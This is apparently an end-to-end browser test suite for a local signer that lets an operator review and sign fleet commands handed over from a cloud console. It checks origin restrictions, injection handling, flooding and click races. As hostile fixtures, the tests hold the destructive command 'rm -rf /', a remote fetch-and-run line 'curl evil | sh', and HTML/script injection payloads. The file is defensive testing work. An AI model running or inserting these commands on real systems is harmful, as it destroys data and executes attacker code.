// The signer in a real browser, with the real cloud, the console that hands over, and a cloud that means harm.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import https from "node:https";
import { createRequire } from "node:module";
import { after, before, test } from "node:test";
import { look, openBrowser, startCloud } from "./console-support.mjs";
import { complaints, ctl_program, eventually, fragment, startAgent, startSigner } from "./fleet-support.mjs";

const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
let cloud;
let browser;
let agent;

before(async () => {
  cloud = await startCloud();
  browser = await openBrowser();
  agent = await startAgent(cloud, "pc-17", { groups: ["accounts"] });
});
after(async () => {
  agent?.stop();
  await browser?.close();
  assert.equal(await cloud?.stop(), 0);
});

/** A signer and its page, as its operator has it. */
async function signing(t, options = {}, look_at = {}) {
  const signer = await startSigner(cloud, options);
  t.after(() => signer.stop());
  const { page, problems, context } = await browser.page(cloud.url, look_at);
  await page.goto(`file://${await signer.file()}`);
  await page.waitForURL(/^http:\/\/127\.0\.0\.1:\d+\/$/);
  await page.getByText("ready", { exact: true }).or(page.getByText("bereit", { exact: true })).waitFor();
  return { signer, page, problems, context, origin: new URL(page.url()).origin };
}

const run = (script, more = {}) => ({ run: { shell: "sh", script, as: "system", ...more } });

async function hand_over({ context, signer }, value) {
  const page = await context.newPage();
  await page.goto(`${signer.address}/request#${fragment(value)}`);
  return page;
}

/** The one that can be signed; those that wait behind it, by name; what was done before, newest first. */
const current = (page) => page.locator("#now article");
const others = (page) => page.locator("#names li");
const earlier = (page) => page.locator("#rest article");
const sign = (page) => current(page).getByRole("button", { name: "Sign and send" });
const to_the_end = (page) => page.evaluate(() => document.querySelector("#now .end").scrollIntoView({ block: "center" }));
const offer = ({ signer }, cmd, aud = agent.id) => fetch(`${signer.address}/offer`,
  { method: "POST", headers: { Origin: signer.address, "Content-Type": "application/json" }, body: JSON.stringify({ claims: { aud, cmd } }) });
const raw = async (article) => {
  await article.locator("details > summary").click();
  return article.locator("details pre").textContent();
};

test("a command goes from the console to the signer, is looked at, signed, and comes to the machine as it was shown", async (t) => {
  const one = await signing(t);
  const console_page = await one.context.newPage();
  await console_page.goto(`${cloud.url}/commands/new?machine=${agent.id}`);
  await console_page.getByText("Write the script.").waitFor();
  await console_page.getByLabel("Script", { exact: true }).fill("echo über\n");
  await console_page.getByLabel("As system").check();
  await console_page.getByText("A sh script runs as system on pc-17").waitFor();
  await console_page.getByText("If the signer does not answer").click();
  await console_page.getByLabel("Its port").fill(new URL(one.signer.address).port);
  await look(console_page, "new-command");
  const opened = one.context.waitForEvent("page");
  await console_page.getByRole("button", { name: "Hand to the signer" }).click();
  const request = await opened;
  await request.getByText("Now look at the signer's tab").waitFor();
  assert.equal(new URL(request.url()).hash, "", "the request does not stay in the address");
  await look(request, "signer-request");

  const article = current(one.page);
  await article.getByText("(the cloud calls it pc-17)").waitFor();
  await look(one.page, "signer-waiting");
  assert.deepEqual(await complaints(one.page, axe), []);
  const shown = await raw(article);
  assert.equal(agent.commands.length, 0, "nothing was sent before the click");
  await sign(one.page).click();
  const done = earlier(one.page).first();
  await done.getByText("Signed and sent to 1 machine.").waitFor();
  const command = await agent.command();
  assert.equal(Buffer.from(command.jws.split(".")[1], "base64url").toString("utf8"), shown, "byte for byte");
  assert.equal(command.claims.cmd.run.script, "echo über\n");
  const file = cloud.file("signed.jws");
  writeFileSync(file, command.jws);
  assert.equal(execFileSync(ctl_program, ["verify", "--key", one.signer.public, "--agent", agent.id, file], { encoding: "utf8" }), "valid\n");
  assert.equal(await done.getByRole("link").getAttribute("href"), `${cloud.url}/commands/${command.claims.jti}`);
  await look(one.page, "signer-sent");
  assert.deepEqual(one.problems, []);
});

test("who refuses signs nothing; the time that it is good for is the operator's choice", async (t) => {
  const one = await signing(t);
  const before_it = agent.commands.length;
  await hand_over(one, { claims: { aud: agent.id, cmd: run("echo no\n") } });
  await current(one.page).getByText("echo no").first().waitFor();
  await hand_over(one, { claims: { aud: "group:accounts", cmd: run("echo yes\n") } });
  await one.page.getByRole("heading", { name: "1 more waits" }).waitFor();
  await current(one.page).getByRole("button", { name: "Refuse" }).click();
  await earlier(one.page).first().getByText("Not sent.").waitFor();
  const second = current(one.page);
  await second.getByText("(the cloud says: 1 now)").waitFor();
  for (const [seconds, name] of [[300, "5 minutes"], [86400, "24 hours"]]) {
    await second.getByLabel("Good for").selectOption(name);
    await eventually(name, async () => {
      const claims = JSON.parse(await second.locator("details pre").textContent());
      return claims.exp - claims.iat === seconds;
    });
  }
  await second.locator("button.primary[aria-disabled=false]").focus();
  await one.page.keyboard.press("Enter");
  const command = await agent.command(before_it);
  assert.equal(command.claims.cmd.run.script, "echo yes\n");
  assert.equal(command.claims.exp - command.claims.iat, 86400);
  assert.equal(agent.commands.length, before_it + 1);
});

test("what is no command of ours, or brings its own times or id, does not even get shown", async (t) => {
  const one = await signing(t);
  const good = { aud: agent.id, cmd: run("true\n") };
  const bad = [
    { claims: { ...good, iat: 1, exp: 9_999_999_999 } }, { claims: { ...good, jti: "00112233-4455-6677-8899-aabbccddeeff" } },
    { claims: { ...good, nbf: 1 } }, { claims: { ...good, aud: [] } }, { claims: { aud: agent.id } }, { claims: good, more: 1 }, { jws: "a.b.c" },
    { claims: { ...good, cmd: { run: { shell: "sh", script: "x", as: "root" } } } }, { claims: { ...good, cmd: { format_disk: {} } } },
    { claims: { ...good, cmd: { ...run("x"), notify: { title: "x", body: "" } } } }, { claims: { ...good, cmd: run("x", { sudo: true }) } },
    '{"claims":{"aud":"a","aud":"b","cmd":{"report":{"message":""}}}}', "no json", `{"claims":${"[".repeat(5000)}`,
  ];
  for (const offer of bad) {
    const page = await hand_over(one, offer);
    await page.getByRole("heading", { name: "The signer did not take it" }).waitFor();
    await page.close();
  }
  for (const hash of ["", "#%%%", "#_w"]) { // nothing, no base64url, no UTF-8
    const page = await one.context.newPage();
    await page.goto(`${one.signer.address}/request${hash}`);
    await page.getByRole("heading", { name: "There is nothing to sign here" }).waitFor();
    await page.close();
  }
  assert.equal(await one.page.locator("article").count(), 0);
});

test("characters that cannot be seen are shown, and nothing of a request becomes markup", async (t) => {
  const one = await signing(t);
  const script = "echo <img src=x onerror=alert(1)> \u202e\u200b\u0007\r\n</pre><script>globalThis.hacked=1</script>\n";
  await hand_over(one, { claims: { aud: [agent.id, "<b>x</b>\u202e"], cmd: run(script, { args: ["\u2066a"], cwd: "/tmp/\u200d" }) } });
  const article = current(one.page);
  await article.getByText("There are 4 characters in it that are not visible").waitFor();
  const seen = await article.locator("pre.code").first().textContent();
  assert.match(seen, /U\+202E U\+200B U\+0007 U\+000D/);
  assert.match(await article.textContent(), /U\+2066a/);
  assert.match(await article.textContent(), /<b>x<\/b>U\+202E/);
  assert.equal(await one.page.evaluate(() => globalThis.hacked), undefined);
  assert.equal(await one.page.locator("main img, main script, main b").count(), 0);
  await look(one.page, "signer-hostile");
  // The heading names the program: in it nothing hides either.
  await offer(one, { run: { shell: "exec", argv: ["/usr/bin/\u202etxt.sh\u3000\u034f", "x"], as: "user" } });
  await others(one.page).getByText("U+202E").waitFor();
  await others(one.page).getByRole("button").click();
  assert.match(await current(one.page).getByRole("heading", { level: 2 }).textContent(), /^Run \/usr\/bin\/U\+202Etxt\.shU\+3000 U\+034F as the user/);
  assert.deepEqual(one.problems, []);
});

test("nobody else can speak to the signer: not another site, not a second page with an old secret, not without one", async (t) => {
  const one = await signing(t);
  const old = await one.context.newPage();
  await old.goto(one.origin);
  await old.getByText("The signer's page is opened by the program itself").waitFor();
  const { page: other } = await browser.page(cloud.url, { signedIn: false });
  await other.goto(`${cloud.url}/sign-in`);
  const port = new URL(one.origin).port;
  assert.notEqual(one.origin, one.signer.address, "the page with the secret is not where everybody can bring commands");
  const foreign = await fetch(`${one.signer.address}/request`, { headers: { Origin: cloud.url } });
  assert.equal(foreign.status, 403);
  for (const origin of [one.origin, `http://localhost:${port}`]) {
    const answer = await old.evaluate(async ([address]) => new Promise((done) => {
      const socket = new WebSocket(`${address.replace("http", "ws")}/page`);
      socket.onopen = () => socket.send(JSON.stringify({ type: "sign", id: 1, shown: "" }));
      socket.onclose = ({ code }) => done(code);
    }), [one.origin, origin]);
    assert.equal(answer, 4401);
  }
  assert.equal((await one.page.getByText("ready", { exact: true }).count()), 1, "the signer goes on");
  const request = await fetch(`${one.signer.address}/request`);
  assert.match(request.headers.get("content-security-policy"), /default-src 'none'.*frame-ancestors 'none'/);
  assert.match(request.headers.get("clear-site-data"), /"storage"/, "a service worker that was left here before us goes");
  for (const address of [one.signer.address, one.origin])
    assert.equal((await fetch(`${address}/l10n.js`, { headers: { "Service-Worker": "script" } })).status, 403, "and none of ours comes");
  for (const name of ["signer.js", "link.js", "page", "open"]) assert.equal((await fetch(`${one.signer.address}/${name}`)).status, 404);
  for (const headers of [{}, { Origin: cloud.url }, { Origin: one.origin }, { Origin: "null" }])
    assert.equal((await fetch(`${one.signer.address}/offer`, { method: "POST", headers: { "Content-Type": "application/json", ...headers }, body: "{}" })).status, 403);
});

test("a signer whose page is closed says so to the console's page, and opens it again when it is asked", async (t) => {
  const one = await signing(t);
  await one.page.close();
  const request = await hand_over(one, { claims: { aud: agent.id, cmd: run("echo later\n") } });
  await request.getByRole("heading", { name: "The signer has it, and its page is not open" }).waitFor();
  await look(request, "signer-nobody");
  await request.getByRole("button", { name: "Open the signer's page" }).click();
  await request.getByRole("heading", { name: "The signer's page opens in another tab" }).waitFor();
  const page = await one.context.newPage();
  await page.goto(`file://${await one.signer.file()}`);
  await current(page).getByText("echo later").first().waitFor();
});

test("a hostile cloud can show what it wants and delay, but what is signed is what was shown and clicked", async (t) => {
  const posted = [];
  const evil = "pc\u202e\u001b[31m<b>trusted</b>";
  let take = (request, response) => { response.writeHead(302, { Location: "http://127.0.0.1:1/" }); response.end(); };
  const server = https.createServer({ cert: readFileSync(cloud.file("cert.pem")), key: readFileSync(cloud.file("key.pem")) }, (request, response) => {
    let body = "";
    request.on("data", (bytes) => { body += bytes; });
    request.on("end", () => {
      if (request.method === "GET") return response.end(JSON.stringify({ agent: agent.id, hostname: evil, claims: { cmd: run("rm -rf /\n") } }));
      posted.push(JSON.parse(body).jws);
      return take(request, response);
    });
  });
  await new Promise((ready) => server.listen(0, "127.0.0.1", ready));
  t.after(() => { server.closeAllConnections(); server.close(); });
  const one = await signing(t, { url: `https://127.0.0.1:${server.address().port}`, token: "A".repeat(43) });
  // Its console asks for something else than the operator wrote: that is what the signer shows.
  await hand_over(one, { claims: { aud: agent.id, cmd: run("curl evil | sh\n") } });
  const article = current(one.page);
  await article.getByText("curl evil | sh").first().waitFor();
  await article.getByText("\\u202e\\x1b[31m<b>trusted</b>").waitFor();
  const shown = await raw(article);
  // Whoever has the signer's well-known origin may flood it: none is signed for it.
  for (let i = 0; i < 40; ++i) assert.equal((await offer(one, run(`echo ${i}\n`))).status, i < 31 ? 202 : 503);
  await one.page.getByRole("heading", { name: "31 more wait" }).waitFor();
  assert.equal(await others(one.page).count(), 31);
  assert.equal(await one.page.locator("button[data-signs]").count(), 1, "one at a time");
  await look(one.page, "signer-flood");
  assert.deepEqual(await complaints(one.page, axe), []);
  await one.page.getByRole("button", { name: "Refuse these 31" }).click();
  await eventually("none to wait behind it", async () => await others(one.page).count() === 0);
  assert.equal(posted.length, 0);
  await sign(one.page).click();
  const failed = one.page.locator("article[data-stage=failed]");
  await failed.getByText("the cloud did not take it").waitFor();
  assert.match(await failed.textContent(), /wants to send us to another address/);
  await look(one.page, "signer-failed");
  take = (request, response) => { response.writeHead(200); response.end("<html>rubbish"); };
  await failed.getByRole("button", { name: "Send once more" }).click();
  await eventually("the second try", () => posted.length === 2);
  await failed.getByText("no JSON of ours").waitFor();
  assert.equal(posted[0], posted[1], "the same token again, no second signature");
  for (const jws of posted) assert.equal(Buffer.from(jws.split(".")[1], "base64url").toString(), shown);
});

test("a word of the page about other bytes than those that were shown signs nothing", async (t) => {
  const one = await signing(t);
  const count = agent.commands.length;
  await one.page.evaluate(() => {
    const send = WebSocket.prototype.send;
    WebSocket.prototype.send = function (text) { // a race, or a page that was meddled with
      return send.call(this, text.replace(/"shown":"[0-9a-f]{8}/, '"shown":"00000000'));
    };
  });
  await hand_over(one, { claims: { aud: agent.id, cmd: run("echo never\n") } });
  await sign(one.page).click();
  await one.page.getByText("What was shown is not what would be signed").waitFor();
  assert.equal(agent.commands.length, count);
});

test("of two commands only one can be signed; no click that was meant for the first hits the second", async (t) => {
  const one = await signing(t);
  const count = agent.commands.length;
  await offer(one, run("echo a\n"));
  await offer(one, run("echo evil\n"));
  await one.page.getByRole("heading", { name: "1 more waits" }).waitFor();
  assert.equal(await one.page.locator("button[data-signs]").count(), 1);
  await current(one.page).getByText("(the cloud calls it pc-17)").waitFor(); // what comes later closes the gate again
  await one.page.locator("button[data-signs][aria-disabled=false]").waitFor();
  await one.page.clock.install();
  await one.page.clock.pauseAt(Date.now() + 60_000); // both clicks come before the gate opens
  // Every button is pressed in the moment in which it appears.
  await one.page.evaluate(() => new MutationObserver(() => {
    for (const button of document.querySelectorAll("main button")) button.click();
  }).observe(document.querySelector("#now"), { childList: true, subtree: true }));
  const place = await sign(one.page).boundingBox();
  await one.page.mouse.click(place.x + 5, place.y + 5);
  await current(one.page).getByText("echo evil").first().waitFor();
  assert.equal(await one.page.evaluate(() => document.activeElement.tagName), "ARTICLE", "the keyboard is at the beginning of the next one");
  await one.page.mouse.click(place.x + 5, place.y + 5);
  await one.page.clock.resume();
  assert.equal((await agent.command(count)).claims.cmd.run.script, "echo a\n");
  await one.page.locator("button[data-signs][aria-disabled=false]").waitFor();
  assert.equal(await one.page.locator("article[data-stage=waiting]").count(), 1, "it still waits");
  assert.equal(agent.commands.length, count + 1);
});

test("what is longer than the window can be signed when its end was on the screen, also by keyboard", async (t) => {
  const one = await signing(t);
  const count = agent.commands.length;
  await offer(one, run(`${"echo harmless\n".repeat(200)}echo the end\n`));
  await current(one.page).locator("button[aria-disabled=false]").waitFor({ state: "attached" }); // it can be refused
  const button = one.page.locator("button[data-signs]");
  await button.evaluate((one) => one.click());
  await one.page.getByText("It can be signed once its end has been on the screen").waitFor();
  assert.equal(await button.getAttribute("aria-disabled"), "true");
  await look(one.page, "signer-long");
  for (let i = 0; i < 20 && !await button.evaluate((one) => one === document.activeElement); ++i) await one.page.keyboard.press("Tab");
  assert.match(await button.evaluate((one) => document.getElementById(one.getAttribute("aria-describedby")).textContent), /its end/);
  await one.page.locator("button[data-signs][aria-disabled=false]").waitFor();
  assert.equal(agent.commands.length, count);
  await one.page.keyboard.press("Enter");
  assert.match((await agent.command(count)).claims.cmd.run.script, /the end\n$/);
});

test("a cloud that answers no question delays neither a signature nor the end", async (t) => {
  const posted = [];
  const held = [];
  const server = https.createServer({ cert: readFileSync(cloud.file("cert.pem")), key: readFileSync(cloud.file("key.pem")) }, (request, response) => {
    held.push(response); // neither names nor receipts come
    let body = "";
    request.on("data", (bytes) => { body += bytes; });
    request.on("end", () => { if (request.method === "POST") posted.push(JSON.parse(body).jws); });
  });
  await new Promise((ready) => server.listen(0, "127.0.0.1", ready));
  t.after(() => { server.closeAllConnections(); server.close(); });
  const one = await signing(t, { url: `https://127.0.0.1:${server.address().port}`, token: "A".repeat(43) });
  await offer(one, run("echo a\n"), Array.from({ length: 50 }, (_, i) => `group:g${i}`));
  await offer(one, run("echo b\n"));
  await eventually("a question", () => held.length > 0);
  for (const script of ["echo a", "echo b"]) {
    await current(one.page).getByText(script).first().waitFor();
    await to_the_end(one.page);
    await sign(one.page).click();
    await earlier(one.page).getByText("Signed. It is on its way to the cloud.").first().waitFor();
  }
  await eventually("both to be signed", async () => await one.page.locator("article[data-stage=posting]").count() === 2);
  await eventually("the first to come", () => posted.length === 1);
  assert.equal(await one.signer.stop(), 0, "it ends although nobody answered");
});

for (const [colorScheme, width, locale] of [["light", 1280, "en-GB"], ["dark", 390, "de-DE"], ["dark", 1280, "en-GB"]]) {
  test(`the signer's page is accessible and whole: ${colorScheme}, ${width} px, ${locale}`, async (t) => {
    const one = await signing(t, {}, { colorScheme, width, height: 720, locale });
    await look(one.page, `signer-empty-${colorScheme}-${width}`);
    await hand_over(one, { claims: { aud: [agent.id, "group:accounts", `fleet:${"k".repeat(43)}`],
      cmd: run(`${"x".repeat(400)}\nfor i in 1 2 3; do\n\techo $i\ndone\n`, { args: ["a b"], env: { LANG: "C" }, cwd: "/tmp", stdin: "in\n" }) } });
    await current(one.page).getByText("(the cloud calls it pc-17)").or(current(one.page).getByText("(die Cloud nennt ihn pc-17)")).waitFor();
    await to_the_end(one.page);
    await current(one.page).locator("button.primary[aria-disabled=false]").waitFor();
    await one.page.locator("details > summary").click();
    await look(one.page, `signer-${colorScheme}-${width}`);
    assert.deepEqual(await complaints(one.page, axe), []);
    assert.ok(await one.page.evaluate(() => document.documentElement.scrollWidth <= document.documentElement.clientWidth));
    assert.deepEqual(one.problems, []);
  });
}

test("both languages of the signer have the same texts, and none is missing", () => {
  const pages = new URL("../../tools/ctl/signer_page/", import.meta.url);
  const file = (name) => readFileSync(new URL(name, pages), "utf8");
  const [en, de] = ["messages.en.json", "messages.de.json"].map((name) => JSON.parse(file(name)));
  assert.deepEqual(Object.keys(de), Object.keys(en));
  const used = ["index.html", "request.html", "reopen.html", "signer.js", "request_view.js", "request.js", "reading.js"]
    .flatMap((name) => [...file(name).matchAll(/(?:\bt\(|data-l10n(?:-\w+)?=)"([a-z_]+\.[a-z_0-9]+)"/g)].map((found) => found[1]))
    .concat([...file("request.js").matchAll(/say\("([a-z.]+)"/g)].map((found) => `${found[1]}_title`));
  assert.ok(used.length > 30);
  assert.deepEqual(used.filter((key) => !(key in en)), []);
});
